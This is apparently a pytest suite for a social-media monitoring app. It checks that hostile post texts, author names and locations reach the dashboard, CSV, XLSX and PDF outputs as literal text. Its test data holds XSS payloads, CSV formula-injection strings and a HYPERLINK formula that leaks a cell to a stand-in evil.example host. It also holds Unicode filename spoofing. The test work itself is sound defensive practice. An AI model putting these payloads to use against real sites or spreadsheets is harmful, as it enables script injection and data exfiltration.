"""Hostile content through the real path: the simulated X API serves posts whose text, author names and
locations carry markup, formulas, control characters and odd Unicode; the collector stores them; the
dashboard (a real streamlit server, headless Chromium), the explorer CSV and the weekly XLSX/CSV/PDF
show them as text.
"""
from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from monitor import exports
from monitor.collector import Collector
from monitor.config import DEMO_CAMPAIGN, default_config
from monitor.db import make_engine, transaction
from monitor.fakex import FakeX
from monitor.models import Author, Post
from monitor.reports import build_weekly_report, render
from monitor.safety import FORMULA_STARTS, clean_text, neutralise
from monitor.schema import upgrade
from monitor.serve import dashboard_env, dashboard_server
from monitor.sources.x import XSource
from monitor.timeutil import UK
from tests.dashboard.helpers import DOWNLOAD_TIMEOUT_MS, open_page, wait_until_idle
from tests.helpers import TOKEN
from tests.reliability.helpers import assert_database_equals_served, start_fake

# (name, text). Each is a post's text; names and locations reuse some of them.
HOSTILE: list[tuple[str, str]] = [
    ("script-tag", "<script>alert(1)</script>"),
    ("img-onerror", "<img src=x onerror=\"window.__xss=1\">"),
    ("markdown", "**bold** _it_ [link](javascript:alert(1))"),
    ("heading", "# Heading"),
    ("latex", "$x^2$ and $$\\frac{a}{b}$$"),
    ("streamlit-colour", ":red[colour] :material/warning:"),
    ("formula-hyperlink", '=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
    ("formula-plus", "+1"),
    ("formula-minus", "-2+3"),
    ("formula-at", "@SUM(1)"),
    ("tab-leading", "\t=1+1"),
    ("cr-leading", "\r=1+1"),
    ("quote-leading", "'quote"),
    ("csv-breaking", '"a","b"\n"c",d\r\nend'),
    ("rtl-override", "\u202eevil.exe\u202c txt.gpj"),
    ("zero-width", "zero\u200bwidth\u200cnon\u200djoiner\ufeffbom\u2060word"),
    ("combining", "Z\u0351\u0364\u0346a\u0308\u0301l\u0301go\u0489\u0489 cafe\u0301"),
    ("emoji", "Well done 🎉👏🏽 team 👩🏽‍🏫 🏴󠁧󠁢󠁷󠁬󠁳󠁿 🇬🇧 ❤️"),
    ("rtl-scripts", "שלום עליכם مرحبا بالعالم"),
    ("nul", "before\x00after"),
    ("control-chars", "bell\x07 vt\x0b ff\x0c esc\x1b[31m del\x7f"),
    ("lone-surrogate", "lone \ud800 high and \udfff low"),
    ("very-long", ("A" + "long text, " * 3000)[:30_000]),
]
assert len(HOSTILE[-1][1]) == 30_000


@pytest.mark.parametrize("name, value", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_every_csv_cell_is_neutralised(name, value):
    """One writer serves every CSV (the explorer's and the weekly report's: monitor.exports): a hostile text
    comes back from the file exactly as safety.neutralise made it, with no control character left."""
    body = exports.csv_bytes(["text", "empty"], [{"text": value, "empty": ""}]).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row == {"text": neutralise(value), "empty": ""}
    if "\x00" in value or "\x07" in value:
        assert "\x00" not in row["text"] and "\x07" not in row["text"]


# --- the corpus served by the simulated X API and collected --------------------------------------------

TAG = " #InvestInPupilServices"
USER_ID_BASE = 7_000_000


@dataclass
class Served:
    """What the fake served: per hostile input, the post id, its text, and its author's name and location."""
    fx: FakeX
    posts: dict[str, str] = field(default_factory=dict)     # name -> post id
    texts: dict[str, str] = field(default_factory=dict)     # post id -> text as served
    authors: dict[str, dict] = field(default_factory=dict)  # post id -> user as served
    posted_at: datetime | None = None

    @property
    def inputs_tried(self) -> int:
        """Each hostile string as a post text, an author's display name and an author's location."""
        return 3 * len(self.posts)


def serve_hostile(fx: FakeX) -> Served:
    """One post per hostile string, by an author whose display name and location are that string too.
    Posted two hours ago with big metrics (the script tag biggest), so they are the period's top posts."""
    served = Served(fx, posted_at=fx.clock() - timedelta(hours=2))
    for i, (name, value) in enumerate(HOSTILE):
        user = {"id": str(USER_ID_BASE + i), "username": f"hostile_{i:02d}", "name": value, "location": value}
        likes = 100_000 - 1_000 * i
        post_id = fx.add_post(value + TAG, user, served.posted_at + timedelta(seconds=i),
                              final_metrics=(likes // 10, likes // 20, likes, 10, 10, likes * 20))
        served.posts[name], served.texts[post_id], served.authors[post_id] = post_id, value + TAG, user
    return served


def collect(engine, config, served: Served) -> None:
    cfg = replace(config, api_base_url=served.fx.base_url, campaigns=(DEMO_CAMPAIGN,))
    collector = Collector(engine, cfg, XSource(TOKEN, served.fx.base_url, timeout=5.0), clock=served.fx.clock)
    [summary] = collector.collect_campaign(DEMO_CAMPAIGN)
    assert summary.status == "completed", summary.error


def storable(value: str) -> str:
    """What a text column holds: NUL and lone surrogates as U+FFFD, every other character as sent."""
    return re.sub("[\x00\ud800-\udfff]", "\ufffd", value)


def assert_stored_intact(engine, served: Served) -> int:
    """Every hostile post stored, its text and author exactly as served (bar U+FFFD), raw as sent.
    Returns the number of hostile posts lost (asserted 0)."""
    with transaction(engine) as s:
        posts = {p.id: p for p in s.scalars(select(Post).where(Post.id.in_(list(served.texts))))}
        authors = {a.id: a for a in s.scalars(select(Author).where(Author.id.in_(
            [u["id"] for u in served.authors.values()])))}
    lost = set(served.texts) - set(posts)
    assert not lost, f"hostile posts lost: {sorted(lost)}"
    for post_id, text in served.texts.items():
        row, user = posts[post_id], served.authors[post_id]
        assert row.text == storable(text), post_id
        # The raw response keeps every character: a long post's whole text is in its note_tweet, as X sends it.
        assert (row.raw.get("note_tweet") or row.raw)["text"] == text
        author = authors[user["id"]]
        assert (author.name, author.location) == (storable(user["name"]), storable(user["location"]))
        assert (author.raw["name"], author.raw["location"]) == (user["name"], user["location"])
    return len(lost)


@pytest.fixture
def hostile_fake():
    fx = start_fake(seed=13, days=1, posts_per_day=60)
    yield fx
    fx.stop()


def test_hostile_input_is_stored_intact_and_safe_in_every_report(engine, config, hostile_fake, tmp_path):
    served = serve_hostile(hostile_fake)
    collect(engine, config, served)
    assert_database_equals_served(engine, hostile_fake)     # the whole page set: nothing lost, nothing twice
    lost = assert_stored_intact(engine, served)

    day = served.posted_at.astimezone(UK).date()
    year, week, _ = day.isocalendar()
    report = build_weekly_report(engine, replace(config, campaigns=(DEMO_CAMPAIGN,)), year, week,
                                 campaign=DEMO_CAMPAIGN.name, now=hostile_fake.clock())
    _check_xlsx(render(report, "xlsx"), served)
    _check_csv(render(report, "csv"), served)
    _check_pdf(render(report, "pdf"), tmp_path)
    print(f"\n{engine.dialect.name}: hostile inputs tried: {served.inputs_tried} "
          f"({len(served.posts)} strings x post text, author name, author location); posts lost: {lost}")



def test_a_username_longer_than_its_column(engine, config, hostile_fake):
    """X allows 15 characters, the column 50, and PostgreSQL refuses more: a longer one is stored cut to
    50 (raw keeps it whole) rather than stopping the run at that page for good."""
    served = Served(hostile_fake)
    user = {"id": str(USER_ID_BASE + 99), "username": "u" * 60, "name": "Long", "location": "Leeds"}
    post_id = hostile_fake.add_post("long username" + TAG, user)
    served.posts["long-username"], served.texts[post_id], served.authors[post_id] = post_id, "long username" + TAG, user
    collect(engine, config, served)
    assert assert_stored_intact(engine, served) == 0
    with transaction(engine) as s:
        author = s.get(Author, user["id"])
        assert (author.username, author.raw["username"]) == ("u" * 50, "u" * 60)


def _expected_cell(value: str) -> str:
    return neutralise(storable(value))


def _workbook_cell(value: str) -> str:
    """A text as a workbook cell holds it: as written (bar what XML cannot hold), CRs read back as newlines."""
    return clean_text(storable(value)).replace("\r\n", "\n").replace("\r", "\n")


def _check_xlsx(data: bytes, served: Served) -> None:
    workbook = load_workbook(io.BytesIO(data))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], formulas                                # not one formula in the workbook
    # text that starts like a formula is a string cell with the quote-prefix style: text, as written
    looks_like = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert looks_like and all(c.data_type == "s" and c.quotePrefix for c in looks_like)
    sheet = workbook["Posts"]
    header = [c.value for c in sheet[1]]
    rows = {r[header.index("Post ID")]: dict(zip(header, r)) for r in sheet.iter_rows(min_row=2, values_only=True)}
    for post_id, text in served.texts.items():
        # XML reads a carriage return back as a newline (as Excel does)
        assert rows[post_id]["Text"] == _workbook_cell(text), post_id
        assert rows[post_id]["Author name"] == _workbook_cell(served.authors[post_id]["name"])


def _check_csv(data: bytes, served: Served) -> None:
    rows = {r["post_id"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))}
    for post_id, text in served.texts.items():
        assert rows[post_id]["text"] == _expected_cell(text), post_id
        assert rows[post_id]["author_name"] == _expected_cell(served.authors[post_id]["name"])
    for row in rows.values():
        assert not any(v.startswith(FORMULA_STARTS) for v in row.values()), row


def _check_pdf(data: bytes, tmp_path) -> None:
    if not shutil.which("pdftoppm"):
        pytest.skip("needs poppler-utils (make system-deps)")
    pdf = tmp_path / "hostile.pdf"
    pdf.write_bytes(data)
    subprocess.run(["pdftoppm", "-png", "-r", "50", str(pdf), str(tmp_path / "page")], check=True, timeout=120)
    pngs = sorted(tmp_path.glob("page-*.png"))
    assert len(pngs) >= 5
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True,
                          timeout=60).stdout
    assert "<script>alert(1)</script>" in text           # printed, not obeyed
    assert "**bold** _it_ [link](javascript:alert(1))" in text
    assert "@hostile_00" in text


# --- the dashboard in a real browser ------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile_dashboard(tmp_path_factory):
    """A SQLite file collected from the hostile corpus, and the dashboard serving it on loopback."""
    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{folder / 'hostile.db'}"
    engine = make_engine(url)
    upgrade(engine)
    fx = start_fake(seed=13, days=1, posts_per_day=60)
    try:
        served = serve_hostile(fx)
        collect(engine, replace(default_config(), backoff_seconds=0.01, max_retries=3), served)
        assert_stored_intact(engine, served)
    finally:
        fx.stop()
    engine.dispose()
    log = folder / "streamlit.log"
    with dashboard_server(env=dashboard_env(database_url=url), log=log) as server:
        yield server.url, served, log


@pytest.fixture
def chromium(browser):
    """The session's browser (tests/conftest.py): a second sync Playwright in this process would fail."""
    return browser


# What post content must never become in the page: run script, an image from its markup, a link to
# javascript:, markdown or LaTeX rendered, a Streamlit colour directive obeyed.
DOM_CHECK = """() => ({
  xss: window.__xss === undefined ? null : String(window.__xss),
  scripts: Array.from(document.querySelectorAll('script')).filter(s => s.textContent.includes('alert(1)')).length,
  images: document.querySelectorAll('img[src="x"], img[onerror]').length,
  js_links: document.querySelectorAll('a[href^="javascript:"]').length,
  rendered: Array.from(document.querySelectorAll('strong, b, em, i, h1, h2, h3, h4, h5, h6, .katex, mark'))
      .map(e => e.textContent).filter(t => /bold|Heading|colour|x\\^?2|^it$/.test(t)),
  katex: document.querySelectorAll('.katex, .katex-display, math').length,
})"""

TABLE_CELLS = "() => Array.from(document.querySelectorAll('table.cm-table td')).map(c => c.textContent)"


def grid_texts(page) -> set[str]:
    """Every cell text of the page's tables (HTML tables: every row is in the page)."""
    return set(page.evaluate(TABLE_CELLS))


def visit(page, base_url: str, path: str) -> set[str]:
    open_page(page, base_url, path)
    found = page.evaluate(DOM_CHECK)
    assert found == {"xss": None, "scripts": 0, "images": 0, "js_links": 0, "rendered": [], "katex": 0}, (path, found)
    texts = grid_texts(page)
    assert page.evaluate(DOM_CHECK) == found                 # still nothing after drawing every row
    return texts


@pytest.mark.browser
def test_dashboard_shows_hostile_text_as_text(hostile_dashboard, chromium, tmp_path):
    base_url, served, log = hostile_dashboard
    context = chromium.new_context(viewport={"width": 2400, "height": 1400}, accept_downloads=True,
                                   timezone_id="Europe/London")
    page = context.new_page()
    page.set_default_timeout(60_000)
    dialogs, page_errors = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: page_errors.append(str(e)))
    try:
        overview = visit(page, base_url, "")
        explorer = visit(page, base_url, "posts")
        unknown = visit(page, base_url, "region?region=Unknown")
        # an HTML page reads a carriage return as a newline (the parser's own rule): the rest as written
        texts = {post_id: storable(text).replace("\r\n", "\n").replace("\r", "\n")
                 for post_id, text in served.texts.items()}
        # the posts explorer: every hostile post's text in a cell, character for character
        shown = [t for t in texts.values() if t in explorer]
        assert len(shown) == len(texts), sorted(set(texts.values()) - explorer)[:3]
        # the overview's top posts (the hostile posts have the most engagements) and contributors' names
        top = [t for t in texts.values() if t in overview]
        assert "<script>alert(1)</script>" + TAG in top and "**bold** _it_ [link](javascript:alert(1))" + TAG in top
        # the region page's accounts: display names and profile locations as written (the overview's top
        # contributors rank by posts, so which of these one-post authors make its top ten varies)
        shown_as = lambda value: storable(value).replace("\r\n", "\n").replace("\r", "\n")  # noqa: E731
        unknown_authors = [u for u in served.authors.values() if shown_as(u["location"]) in unknown]
        assert len(unknown_authors) >= len(served.authors) - 3, len(unknown_authors)
        named = [u for u in served.authors.values() if shown_as(u["name"]) in unknown]
        assert len(named) >= len(served.authors) - 3, len(named)
        assert storable(HOSTILE[0][1]) in unknown                # <script>alert(1)</script> as a display name

        # the explorer's CSV download: neutralised like the reports
        page.goto(f"{base_url}/posts")
        page.wait_for_selector("h1")
        wait_until_idle(page)
        with page.expect_download(timeout=DOWNLOAD_TIMEOUT_MS) as download_info:
            page.get_by_role("button", name=re.compile("Download these posts")).click()
        body = download_info.value.path().read_bytes().decode("utf-8-sig")
        rows = {r["url"].rsplit("/", 1)[-1]: r for r in csv.DictReader(io.StringIO(body, newline=""))}
        for post_id, text in served.texts.items():
            assert rows[post_id]["text"] == _expected_cell(text), post_id
            assert rows[post_id]["author_name"] == _expected_cell(served.authors[post_id]["name"])
        assert not [v for r in rows.values() for v in r.values() if v.startswith(FORMULA_STARTS)]
    finally:
        context.close()
    assert dialogs == [], dialogs                                # no alert() ever ran
    assert page_errors == [], page_errors
    assert "Traceback" not in log.read_text(errors="replace")
    print(f"\nbrowser: {len(served.texts)} hostile posts shown as literal text on the explorer, overview and "
          f"region pages; no script, image, link, markdown or LaTeX made from them; CSV neutralised")


@pytest.mark.browser
def test_the_dom_check_sees_markup_that_was_obeyed(chromium):
    """The check above would notice: the same payloads rendered as HTML/markdown are all caught."""
    page = chromium.new_page()
    try:
        page.set_content('<h1># Heading</h1><strong>bold</strong><img src="x" onerror="window.__xss=1">'
                         '<a href="javascript:alert(1)">link</a><span class="katex">x2</span>')
        page.wait_for_function("window.__xss !== undefined")
        found = page.evaluate(DOM_CHECK)
    finally:
        page.close()
    assert found["xss"] == "1" and found["images"] == 1 and found["js_links"] == 1 and found["katex"] == 1
    assert set(found["rendered"]) >= {"# Heading", "bold"}
